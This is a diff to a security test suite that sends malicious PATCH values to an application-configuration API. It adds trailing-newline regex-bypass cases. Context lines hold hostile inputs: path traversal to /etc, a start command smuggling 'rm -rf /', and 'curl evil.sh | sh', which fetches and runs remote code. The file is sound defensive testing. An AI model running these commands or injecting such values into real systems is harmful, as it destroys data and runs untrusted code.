@@ -300,6 +300,11 @@ ATTACKS = [
     ("PATCH", APP, {"base_directory": "/../../etc"}, "base_directory"),
     ("PATCH", APP, {"git_repository": "file:///etc"}, "git_repository"),
     ("PATCH", APP, {"git_commit_sha": "HEAD"}, "git_commit_sha"),
+    # a final newline: `$` alone admits one (re.match), so every anchored rule ends in \Z
+    ("PATCH", APP, {"git_commit_sha": "0123abcd\n"}, "git_commit_sha"),
+    ("PATCH", APP, {"git_branch": "main\n"}, "git_branch"),
+    ("PATCH", APP, {"health_check_path": "/health\n"}, "health_check_path"),
+    ("PATCH", APP, {"limits_memory": "512m\n"}, "limits_memory"),
     ("PATCH", APP, {"domains": "https://victim.io:8443"}, "domains"),
     ("PATCH", APP, {"start_command": "run\nrm -rf /"}, "start_command"),
     ("PATCH", APP, {"pre_deployment_command": "curl evil.sh | sh"}, "pre_deployment_command"),
